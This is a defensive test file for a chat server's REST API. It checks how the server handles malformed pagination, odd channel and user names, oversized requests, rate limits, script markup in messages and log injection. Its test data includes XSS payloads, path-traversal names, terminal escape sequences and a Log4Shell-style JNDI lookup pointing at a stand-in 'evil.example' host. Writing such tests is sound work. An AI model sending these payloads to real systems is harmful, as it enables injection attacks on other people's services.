// Pages, names and amounts that no list was made for, and what is written so that it looks like something else.

import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { newKey } from "../scenes/stage.ts";
import { createBot, type Person } from "../support/bootstrap.ts";
import type { Answer } from "../support/rest.ts";
import { Ground } from "./standing.ts";

let ground: Ground;
let ada: Person;
let channel: string;
beforeAll(async () => {
  ground = await Ground.open();
  ada = await ground.stage.person("ada");
  channel = await ground.stage.channel("quay", ["ada"]);
  await ground.stage.post("ada", channel, "The tide turns at six.");
  ground.weigh();
}, 30_000);
afterEach(() => ground.stands());
afterAll(() => ground?.close());

describe("REST-02 pages that are none", () => {
  const wrong = ["limit=0", "limit=-1", "limit=1000000000", "limit=1e2", "limit=", "after=-1", "after=18446744073709551616", "before=1&after=1", "around=1&before=1", "thread=x"];
  for (const query of wrong)
    it(`messages?${query}`, async () => {
      const answer = await ada.rest.get(`/api/v1/channels/${channel}/messages?${query}`);
      expect([200, 400]).toContain(answer.status);
      if (answer.status === 400) expect(answer.body).toHaveProperty("code");
      else expect(answer.body.messages.length).toBeLessThanOrEqual(200);
    });
  for (const list of ["users", "channels", "me/saved", "me/mentions", "me/threads", "search?query=tide"])
    it(`a cursor that nobody gave: ${list}`, async () => {
      for (const cursor of ["x", "-1", "%00", "9".repeat(400), "eyJhIjoxfQ=="]) expect([200, 400, 413]).toContain((await ada.rest.get(`/api/v1/${list}${list.includes("?") ? "&" : "?"}cursor=${cursor}`)).status);
    });
});

describe("REST-04 names of channels", () => {
  const names = ["..", ".", "%2f", "a/b", "con", "⚓⚓⚓", "קול", "\u202ereversed", "a\nb", "a\tb", "", " ", "n".repeat(10_240), "<script>", "../../x", "new", "c", "\u200b"];
  for (const name of names)
    it(JSON.stringify(name.slice(0, 20)), async () => {
      const answer = await ada.rest.post("/api/v1/channels", { name, kind: "public" }, { key: newKey() });
      if (answer.status >= 400) expect(answer).toMatchObject({ status: expect.toSatisfy((status: number) => status < 500), body: { field: "name" } });
      else expect((await ada.rest.get(`/api/v1/channels/${answer.body.result.id}`)).status).toBe(200);
    });
  it("are taken once, in whatever case", async () => {
    await ada.rest.need("POST", "/api/v1/channels", { name: "Fenders", kind: "public" }, { key: newKey() });
    for (const name of ["fenders", "FENDERS", "Ｆenders"]) expect((await ada.rest.post("/api/v1/channels", { name, kind: "public" }, { key: newKey() })).status, name).toBeGreaterThanOrEqual(400);
  });
});

describe("REST-05 more than anybody needs", () => {
  const many = Array.from({ length: 10_000 }, (_, at) => `U${String(at).padStart(13, "0")}`);
  const tooMuch = async (answer: Promise<Answer>): Promise<void> => void expect([400, 404, 413, 422]).toContain((await answer).status);
  it("members in one call", () => tooMuch(ada.rest.post(`/api/v1/channels/${channel}/members`, { users: many }, { key: newKey() })));
  it("members of a new channel", () => tooMuch(ada.rest.post("/api/v1/channels", { name: "crowd", kind: "private", members: many }, { key: newKey() })));
  it("people in a direct message", () => tooMuch(ada.rest.post("/api/v1/directs", { users: many }, { key: newKey() })));
  it("files of one message", () => tooMuch(ada.rest.post(`/api/v1/channels/${channel}/messages`, { text: "a", files: many.map((id) => id.replace("U", "F")) }, { key: newKey() })));
  it("words to be told of", () => tooMuch(ground.stage.owner.rest.put("/api/v1/me/preferences", { keywords: many }, { key: newKey() })));
  it("a draft without end", () => tooMuch(ada.rest.put(`/api/v1/me/drafts/${channel}`, { text: "d".repeat(100_000) })));
});

describe("REST-07 the same request again", () => {
  it("makes one channel, however often it is asked for", async () => {
    const key = newKey();
    const made = await Promise.all(Array.from({ length: 10 }, () => ada.rest.need("POST", "/api/v1/channels", { name: "once", kind: "public" }, { key })));
    expect(new Set(made.map((ack) => ack.result.id)).size).toBe(1);
  });
});

describe("REST-08 more in a second than one may", () => {
  it("is answered 429 with a time to wait, and nobody else is slowed", async () => {
    const tight = await Ground.open({ settings: { rate_per_second: 2, rate_burst: 5 } });
    try {
      const [cleo, dora] = await Promise.all([createBot(tight.stage.server, tight.stage.owner, "cleo"), createBot(tight.stage.server, tight.stage.owner, "dora")]);
      const room = (await cleo.rest.need("POST", "/api/v1/channels", { name: "room", kind: "private", members: [dora.id] }, { key: newKey() })).result.id as string;
      const post = (who: Person): Promise<Answer> => who.rest.post(`/api/v1/channels/${room}/messages`, { text: "again" }, { key: newKey() });
      const answers = await Promise.all(Array.from({ length: 50 }, () => post(cleo)));
      const slowed = answers.filter(({ status }) => status === 429);
      expect(slowed.length).toBeGreaterThan(20);
      for (const { headers } of slowed) expect(Number(headers["retry-after"])).toBeGreaterThan(0);
      expect((await post(dora)).status).toBeLessThan(300);
      await tight.stands();
    } finally {
      await tight.close();
    }
  });
});

describe("XSS-01, XSS-04, XSS-06 texts that want to be more", () => {
  const texts: [string, string][] = [
    ["markup", "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"], ["10,000 brackets", "[".repeat(10_000)], ["10,000 stars", "*".repeat(10_000)], ["5,000 quotes", ">".repeat(5_000)],
    ["16 KiB of backticks", "`".repeat(16_384)], ["a tower of marks", `a${"\u0301".repeat(500)}`], ["families without end", "👨‍👩‍👧".repeat(500)], ["a way back", "\u202eabc\u2066def"],
  ];
  for (const [what, text] of texts)
    it(`${what} come back as they were sent, at once`, async () => {
      const { seq } = await ada.rest.need("POST", `/api/v1/channels/${channel}/messages`, { text }, { key: newKey() });
      const began = Date.now();
      const page = await ada.rest.need("GET", `/api/v1/channels/${channel}/messages?after=${seq - 1}`);
      expect(Date.now() - began).toBeLessThan(500);
      expect(page.messages.at(-1).text).toBe(text);
    });
});

describe("XSS-07 names of people", () => {
  for (const username of ["аdmin", "@here", "here", "channel", "everyone", "<b>", "a b", "", "n".repeat(10_240), "root", "ROOT", "rοοt", "\u202eroot", "a\0b"])
    it(JSON.stringify(username.slice(0, 20)), async () => {
      const answer = await ground.stage.owner.rest.post("/api/v1/users", { username, display_name: "X", role: "member", bot: true }, { key: newKey() });
      expect(answer).toMatchObject({ status: expect.toSatisfy((status: number) => status >= 400 && status < 500), body: { field: "username" } });
    });
});

describe("OPS-01 what strangers would write into the log", () => {
  it("stands there in one harmless line", async () => {
    const odd = ["\x1b[2J", "\x1b]52;c;aGVsZm8=\x07", "%n%n%s", "${jndi:ldap://evil.example/a}"];
    for (const text of odd) {
      await ground.send(`GET /livez?${encodeURIComponent(text)} HTTP/1.1\r\nHost: h\r\nUser-Agent: ${text.replaceAll(/[\x00-\x1f]/g, "?")}\r\n\r\n`);
      await ground.stage.server.rest().post("/api/v1/sessions", { username: text, password: "not the one at all" });
    }
    for (const line of ground.stage.server.log) expect(line).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
  });
});

it("takes no more memory than before", () => ground.weighsAsBefore(), 10_000);
